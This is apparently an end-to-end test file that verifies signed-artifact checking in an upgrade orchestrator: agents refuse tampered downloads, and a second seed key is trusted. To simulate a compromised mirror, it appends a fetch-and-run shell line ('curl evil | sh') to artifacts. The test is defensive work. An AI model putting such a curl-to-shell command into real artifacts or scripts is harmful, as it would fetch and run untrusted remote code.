import { createHash } from 'crypto';
import { mkdtempSync, rmSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { ExecutionStatus, type UpgradeExecutionView } from '@upshift/contracts';
import { isTerminal } from '@upshift/domain';
import { eventually } from '@upshift/testing';
import { httpArtifactSource, startFleet, type Fleet } from '@upshift/fleet';
import { seedRegistry } from '@upshift/demo-catalog';
import { DEMO_COMPONENT, OrchestratorClient, startStack, type Stack } from '@upshift/stack';

jest.setTimeout(300_000);

const INSTANCES = 6;

/**
 * ADR 0073 end to end, everything real (registry, orchestrator, worker processes, broker, the simulated
 * fleet): an artifact that does not match what the registry published is refused by every agent before
 * anything is installed, and a database seeded by two checkouts (two seed keys) still upgrades.
 */
describe('signed artifacts end to end', () => {
  let stack: Stack;
  let client: OrchestratorClient;
  /** For the second checkout's tenant, which the stack's operator token does not cover. */
  let admin: OrchestratorClient;
  /** Artifact URLs the fleet's agents download with other bytes than the registry published. */
  const tampered = new Set<string>();
  const extraFleets: Fleet[] = [];
  const keyDirs: string[] = [];

  beforeAll(async () => {
    const download = httpArtifactSource();
    stack = await startStack({
      label: 'e2e_signed',
      workers: 1,
      workerConcurrency: 16,
      fleet: {
        instances: INSTANCES,
        initialVersion: '2.1.0',
        latency: { default: { kind: 'uniform', minMs: 2, maxMs: 10 } },
        // A compromised mirror: same URL, other bytes.
        artifactSource: async (url) => {
          const bytes = await download(url);
          return tampered.has(url)
            ? Buffer.concat([bytes, Buffer.from('\n#!/bin/sh curl evil | sh\n')])
            : bytes;
        },
      },
    });
    client = new OrchestratorClient(stack.baseUrl, stack.operatorToken);
    admin = new OrchestratorClient(stack.baseUrl, stack.adminToken);
  });

  afterAll(async () => {
    for (const fleet of extraFleets) await fleet.stop();
    await stack?.stop();
    for (const dir of keyDirs) rmSync(dir, { recursive: true, force: true });
  });

  function request(totalInstances: number): Record<string, unknown> {
    return {
      componentId: stack.componentId,
      fromVersionId: stack.versionId('2.1.0'),
      toVersionId: stack.versionId('2.2.0'),
      strategy: 'ROLLING',
      batchSize: 2,
      batchDelaySeconds: 0,
      healthCheckIntervalSeconds: 1,
      healthCheckTimeoutSeconds: 5,
      maxUnavailablePercentage: 50,
      totalInstances,
      autoRollbackEnabled: true,
      failureThreshold: 1,
      initiatedBy: 'e2e@upshift.test',
      installedComponents: { kafka: '3.6.0', postgresql: '16.1.0' },
    };
  }

  async function runToEnd(
    as: OrchestratorClient,
    tenantId: string,
    body: Record<string, unknown>,
  ): Promise<UpgradeExecutionView> {
    const created = await as.create(tenantId, body);
    await as.operate(created.id, 'start');
    return eventually(
      async () => {
        const view = await as.get(created.id);
        return isTerminal(view.status) ? view : undefined;
      },
      { timeoutMs: 180_000, intervalMs: 250, what: `execution ${created.id} to end` },
    );
  }

  async function registryVersion(version: string) {
    return client.call<{ artifact: { url: string; sha256: string; signature: string | null } }>(
      'GET',
      `/components/${stack.componentId}/versions/${stack.versionId(version)}`,
      undefined,
      200,
    );
  }

  it('a tampered artifact: every agent refuses it, no instance leaves 2.1.0, and the execution rolls back', async () => {
    const target = await registryVersion('2.2.0');
    tampered.add(target.artifact.url);
    try {
      const view = await runToEnd(client, stack.tenantId, request(INSTANCES));

      // The policy: failureThreshold 1 with auto-rollback.
      expect(view.status).toBe(ExecutionStatus.ROLLED_BACK);
      expect(view.completedInstances).toBe(0);
      const failed = view.instances.filter((i) => i.status === 'FAILED' || i.status === 'ROLLED_BACK');
      expect(failed.length).toBeGreaterThan(0);
      // Refused by the agents for what it is, not for some other reason.
      const refusals = view.instances.flatMap((i) => (i.error === null ? [] : [i.error]));
      expect(refusals.length).toBeGreaterThan(0);
      expect(refusals.some((error) => /digest-mismatch/.test(error))).toBe(true);
      // The rest were cut short when the threshold started the rollback; none failed for another reason.
      for (const error of refusals) expect(error).toMatch(/digest-mismatch|interrupted by the rollback/);
      // The witness is the fleet: nothing was installed anywhere, every instance still runs 2.1.0.
      await eventually(
        () =>
          stack.fleet.instances.every((i) => !i.upgrading && i.pendingOperations === 0) ? true : undefined,
        { timeoutMs: 30_000, what: 'the fleet to be at rest' },
      );
      for (const instance of stack.fleet.instances) {
        expect([instance.name, instance.version, instance.counters.upgradesApplied]).toEqual([
          instance.name,
          '2.1.0',
          0,
        ]);
      }
    } finally {
      tampered.delete(target.artifact.url);
    }
    await stack.inventoryMatchesFleet();
  });

  it('a second checkout seeding the same database: its fleet trusts every registered key and upgrades to 2.2.0', async () => {
    const keyDir = mkdtempSync(join(tmpdir(), 'e2e-second-checkout-'));
    keyDirs.push(keyDir);
    const second = await seedRegistry({
      registryUrl: stack.registryUrl,
      token: stack.adminToken,
      artifactBaseUrl: stack.fleet.artifactBaseUrl,
      keyFile: join(keyDir, '.data', 'seed', 'artifact-signing.key'),
    });
    expect(second.publicKeyPem).not.toBe(stack.seed.publicKeyPem);
    expect(second.created).toEqual({ components: 0, versions: 0, transitions: 0 });
    expect(second.inconsistencies).toEqual([]);

    // What the local stack did before ADR 0073: trust only this checkout's key. Every agent refuses the
    // catalog, whose versions the first checkout signed.
    const target = await registryVersion('2.2.0');
    const onlyNewKey = await startFleet({
      instances: 1,
      initialVersion: '2.1.0',
      namePrefix: 'old-behaviour',
      agentKeys: stack.agentKeys,
      trustedPublicKeys: [second.publicKeyPem],
    });
    extraFleets.push(onlyNewKey);
    const agent = onlyNewKey.agent('old-behaviour-0001');
    await agent.drain({ commandId: '6b0f8c1e-0000-4000-8000-000000000001' });
    const refused = await agent.upgrade({
      commandId: '6b0f8c1e-0000-4000-8000-000000000002',
      version: '2.2.0',
      artifactUrl: target.artifact.url,
      sha256: target.artifact.sha256,
      signature: target.artifact.signature,
    });
    expect(refused).toMatchObject({ status: 422, body: { code: 'signature-invalid' } });
    expect(createHash('sha256').update(`upshift demo artifact ${DEMO_COMPONENT}@2.2.0`).digest('hex')).toBe(
      target.artifact.sha256,
    );

    // The second checkout's fleet, registered as `npm run up` registers it: it trusts both keys.
    const tenantId = 'second-checkout';
    const fleet = await startFleet({
      instances: 4,
      initialVersion: '2.1.0',
      namePrefix: 'second',
      agentKeys: stack.agentKeys,
      registration: {
        registryUrl: stack.registryUrl,
        tenantId,
        componentId: stack.componentId,
        versionId: stack.versionId('2.1.0'),
        token: stack.adminToken,
      },
    });
    extraFleets.push(fleet);

    const view = await runToEnd(admin, tenantId, request(4));
    expect(view.status).toBe(ExecutionStatus.COMPLETED);
    expect(view.completedInstances).toBe(4);
    for (const instance of fleet.instances) {
      expect([instance.name, instance.version, instance.counters.upgradesApplied]).toEqual([
        instance.name,
        '2.2.0',
        1,
      ]);
    }
  });
});
